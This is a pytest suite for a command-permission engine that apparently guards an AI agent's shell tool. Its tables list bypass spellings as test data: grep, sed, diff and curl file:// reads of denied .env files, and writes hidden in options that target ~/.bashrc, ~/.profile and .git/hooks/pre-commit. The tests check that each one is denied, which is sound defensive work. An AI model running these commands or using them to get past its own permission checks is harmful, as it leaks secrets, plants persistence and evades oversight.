"""Options parsed as the program parses them; writes hidden in options are writes (issue 24,
points 2 and 3), run for real through ``toolrun exec`` in the round-3 scene.

Every class is an attack the third corpus found plus three other spellings of it, each row
naming its public source. Each class runs once for real (the disk must not change, no
secret may be printed) and each row is decided by the engine (never allowed).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.permissions.conftest import make_config
from tests.round3.scene import DENY_SECRETS, Scene
from toolrun.permissions import PermissionEngine

DENY = ["Read(./.env)", "Read(./config/.env)", "Edit(./docs/**)"]

# (command, source). The first row of each class is the corpus' own case.
GLUED_READS = [
    ("grep -e. .env", "issue 24 corpus (by hand)"),
    ("grep -e . -- .env", "GNU grep manual: -- ends options"),
    ("grep --regexp=. .env", "GNU grep manual: --regexp=PATTERNS"),
    ("grep -se. .env", "by hand: bundle -s then glued -e value"),
    ("sed -n -ep .env", "issue 24 corpus (by hand)"),
    ("sed -ne p .env", "GNU sed manual: bundled -n -e"),
    ("sed --quiet --expr=p config/.env", "GNU sed manual: long option prefix"),
    ("sed -nep config/.env", "by hand: -n then glued -e value"),
    ("diff --from-file=.env README.md", "issue 24 corpus (diffutils manual --from-file)"),
    ("diff --from .env README.md", "GNU diffutils manual: unambiguous prefixes"),
    ("diff --to-file=config/.env README.md", "GNU diffutils manual: --to-file"),
    ("diff README.md --fr=.env", "by hand: prefix after an operand (GNU permutes)"),
]
RECURSIVE_READS = [
    ("grep -d recurse SECRET .", "issue 24 corpus (GNU grep manual -d ACTION)"),
    ("grep --directories=recurse SECRET .", "GNU grep manual: --directories=ACTION"),
    ("grep -d rec SECRET config", "by hand: grep reads ACTION with argmatch (prefixes)"),
    ("grep --dir=recurse SECRET .", "by hand: long option prefix and a value"),
    ("diff -rN config docs", "GNU diffutils manual: -r and -N print new files whole"),
]
HIDDEN_WRITES = [
    ("sort -o ~/.bashrc README.md", "issue 24 corpus (destructive_command_guard: sort -o)"),
    ("sort --output ~/.bashrc README.md", "GNU coreutils manual: --output=FILE"),
    ("sort -ro ~/.profile README.md", "by hand: bundle then -o"),
    ("sort --outp=.git/hooks/pre-commit README.md", "by hand: long prefix of --output"),
    ("find . -fprint ~/.profile", "issue 24 corpus (GNU findutils manual -fprint)"),
    ("find . -maxdepth 0 -fprint0 ~/.bashrc", "GNU findutils manual: -fprint0"),
    ("find . -maxdepth 0 -fls .git/hooks/pre-commit", "GNU findutils manual: -fls"),
    ("find . -maxdepth 0 -fprintf ~/.profile %p", "GNU findutils manual: -fprintf"),
    ("uniq README.md ~/.bashrc", "issue 24 corpus (coreutils manual: uniq INPUT OUTPUT)"),
    ("uniq -c README.md ~/.profile", "by hand: an option before the two operands"),
    ("uniq -- README.md .git/hooks/pre-commit", "by hand: -- then INPUT OUTPUT"),
    ("uniq README.md docs/a.md", "by hand: an Edit-denied output"),
    ("sort -o docs/a.md README.md", "by hand: an Edit-denied -o"),
]
CURL = [
    ("curl -o ~/.bashrc file://{ws}/README.md", "issue 24 corpus (Bash(curl *) allow)"),
    ("curl -so ~/.bashrc file://{ws}/README.md", "by hand: bundled -s then -o"),
    ("curl -o../x file://{ws}/README.md", "by hand: glued -o value outside"),
    ("curl --output=../x file://{ws}/README.md", "curl manual: --output <file>"),
    ("curl --output-dir .. -O file://{ws}/README.md", "curl manual: --output-dir with -O"),
    ("curl -D ~/.profile file://{ws}/README.md", "curl manual: -D, --dump-header <file>"),
    ("curl file:///proc/self/cwd/.env", "issue 24 corpus (sandbox-runtime tests: /proc/self)"),
    ("curl FILE:///proc/self/cwd/.env", "by hand: the scheme is case-insensitive"),
    ("curl file://localhost/proc/self/cwd/config/.env", "RFC 8089: file://localhost/path"),
    ("curl file://{ws}/.env", "curl manual: file:// URLs read local files"),
]


@pytest.fixture
def scene(tmp_path: Path) -> Scene:
    return Scene.make(tmp_path)


def _engine(scene: Scene, mode: str, allow: list[str] | None = None) -> PermissionEngine:
    return PermissionEngine(make_config(scene.ws, deny=DENY, allow=allow or [], mode=mode))


def _commands(rows: list[tuple[str, str]], scene: Scene) -> list[str]:
    return [c.format(ws=scene.ws) for c, _ in rows]


def _check_real(scene: Scene, commands: list[str], mode: str) -> None:
    _done, results = scene.run(commands, mode=mode)
    assert len(results) >= len(commands), results
    assert scene.leaked(results) == []
    assert scene.changed() == []


@pytest.mark.parametrize("mode", ["default", "acceptEdits"])
def test_glued_and_abbreviated_options_do_not_read_a_denied_file(scene: Scene, mode: str,
                                                                 monkeypatch: pytest.MonkeyPatch
                                                                 ) -> None:
    scene.config()
    monkeypatch.setenv("HOME", str(scene.home))
    engine = _engine(scene, mode)
    for command, source in GLUED_READS:
        decision = engine.decide("Bash", {"command": command}, cwd=scene.ws)
        assert decision.decision == "deny", (command, source, decision.reason)
    _check_real(scene, _commands(GLUED_READS, scene), mode)


def test_recursion_spellings_are_recursive_reads(scene: Scene,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    scene.config()
    monkeypatch.setenv("HOME", str(scene.home))
    engine = _engine(scene, "acceptEdits")
    for command, source in RECURSIVE_READS:
        decision = engine.decide("Bash", {"command": command}, cwd=scene.ws)
        assert decision.decision != "allow", (command, source, decision.reason)
    _check_real(scene, _commands(RECURSIVE_READS, scene), "acceptEdits")


@pytest.mark.parametrize("mode", ["default", "acceptEdits", "bypassPermissions"])
def test_writes_hidden_in_options_are_writes_in_every_mode(scene: Scene, mode: str,
                                                           monkeypatch: pytest.MonkeyPatch
                                                           ) -> None:
    scene.config()
    monkeypatch.setenv("HOME", str(scene.home))
    engine = _engine(scene, mode)
    for command, source in HIDDEN_WRITES:
        decision = engine.decide("Bash", {"command": command}, cwd=scene.ws)
        assert decision.decision != "allow", (command, source, decision.reason)
    if mode == "bypassPermissions":
        _check_real(scene, _commands(HIDDEN_WRITES, scene), mode)


@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
def test_curl_allowed_by_a_rule_writes_and_reads_only_what_the_rules_allow(
    scene: Scene, mode: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    scene.config(DENY_SECRETS + "  allow: ['Bash(curl *)']\n")
    monkeypatch.setenv("HOME", str(scene.home))
    engine = _engine(scene, mode, ["Bash(curl *)"])
    # bypassPermissions allows writes outside the workspace (as it does `> ../x`); it
    # never allows a protected path or a denied read.
    rows = [r for r in CURL if mode != "bypassPermissions" or "../x" not in r[0]
            and "--output-dir .." not in r[0]]
    commands = _commands(rows, scene)
    for command, (_, source) in zip(commands, rows, strict=True):
        decision = engine.decide("Bash", {"command": command}, cwd=scene.ws)
        assert decision.decision != "allow", (command, source, decision.reason)
    _check_real(scene, commands, mode)


def test_curl_still_runs_what_the_rule_allows(scene: Scene) -> None:
    """The same rule still lets a plain download to standard output run (no false ask)."""
    scene.config(DENY_SECRETS + "  allow: ['Bash(curl *)']\n")
    _done, results = scene.run([f"curl -s file://{scene.ws}/README.md"])
    assert results[-1]["decision"] == "allow", results
    assert "# readme" in str(results)


@pytest.mark.parametrize(
    ("command", "source"),
    [
        ("tree -o ~/.bashrc", "issue 24 brief (tree manual: -o filename)"),
        ("tree -R -H . src", "tree manual: -R writes 00Tree.html in every directory"),
        ("base64 -o ~/.bashrc README.md", "macOS base64(1): -o output_file"),
        ("wget -O ~/.bashrc http://example.com/", "GNU wget manual: -O file"),
        ("wget -P ~ http://example.com/.bashrc", "GNU wget manual: -P prefix"),
        ("wget -e output_document=x http://example.com/", "GNU wget manual: -e command"),
        ("awk -d~/.bashrc 1 README.md", "gawk manual: -d[file] dumps variables"),
        ("less -o ~/.bashrc README.md", "less(1): -o logfile"),
        ("curl -K cfg http://example.com/", "curl manual: a config file can say -o"),
        ("curl -w '%output{~/.bashrc}x' http://example.com/", "curl manual: %output{}"),
    ],
)
def test_more_hidden_writes_are_never_waved_through(
    scene: Scene, command: str, source: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(scene.home))
    engine = _engine(scene, "bypassPermissions", ["Bash(curl *)", "Bash(wget *)"])
    decision = engine.decide("Bash", {"command": command}, cwd=scene.ws)
    assert decision.decision != "allow", (command, source, decision.reason)


@pytest.mark.parametrize(
    "command",
    ["ls --frobnicate", "grep --bogus x README.md", "cat -Z README.md", "head --nope README.md",
     "sort --compress-program=sh README.md", "sed --nope p README.md"],
)
def test_an_option_not_in_the_table_is_not_read_only(
    scene: Scene, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(scene.home))
    decision = _engine(scene, "default").decide("Bash", {"command": command}, cwd=scene.ws)
    assert decision.decision != "allow", decision.reason
